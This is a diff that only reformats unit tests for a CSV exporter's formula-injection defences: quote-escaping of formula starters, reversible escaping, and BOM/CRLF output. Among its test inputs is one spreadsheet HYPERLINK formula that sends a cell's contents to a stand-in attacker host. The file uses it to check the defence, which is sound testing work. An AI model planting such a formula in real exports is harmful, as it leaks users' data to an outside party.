@@ -27,7 +27,14 @@ describe('csv', () => {
   });
 
   it('neutralises every formula starter with a leading single quote, and only text', () => {
-    for (const dangerous of ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1']) {
+    for (const dangerous of [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A2)',
+      '\t=1',
+      '\r=1',
+    ]) {
       expect(neutralizeFormula(dangerous)).toBe(`'${dangerous}`);
     }
     expect(csvField('=1+1')).toBe("'=1+1");
@@ -36,7 +43,8 @@ describe('csv', () => {
     expect(neutralizeFormula('2026-01-01T00:00:00.000Z')).toBe('2026-01-01T00:00:00.000Z');
     // A value that already starts with a quote before a formula starter is escaped again, so the escape is reversible.
     expect(neutralizeFormula("'=x")).toBe("''=x");
-    for (const value of ['=x', "'=x", "''-1", "'plain", 'plain', '@a']) expect(restoreFormula(neutralizeFormula(value))).toBe(value);
+    for (const value of ['=x', "'=x", "''-1", "'plain", 'plain', '@a'])
+      expect(restoreFormula(neutralizeFormula(value))).toBe(value);
   });
 
   it('writes a BOM, a header and CRLF records that parse back to the same data', async () => {
@@ -55,9 +63,11 @@ describe('csv', () => {
     expect(out.startsWith(CSV_BOM)).toBe(true);
     const parsed = parseCsv(out.slice(CSV_BOM.length));
     expect(parsed[0]).toEqual(['id', 'text', 'note']);
-    expect(parsed.slice(1).map(([id, t, note]) => ({ id: Number(id), text: restoreFormula(t ?? ''), note: note || undefined }))).toEqual(
-      rows.map((r) => ({ ...r, note: r.note || undefined })),
-    );
+    expect(
+      parsed
+        .slice(1)
+        .map(([id, t, note]) => ({ id: Number(id), text: restoreFormula(t ?? ''), note: note || undefined })),
+    ).toEqual(rows.map((r) => ({ ...r, note: r.note || undefined })));
     expect(parsed[3]?.[1]?.startsWith("'=")).toBe(true);
     expect(await text(csvLines(columns, from([]), { bom: false }))).toBe('id,text,note\r\n');
   });
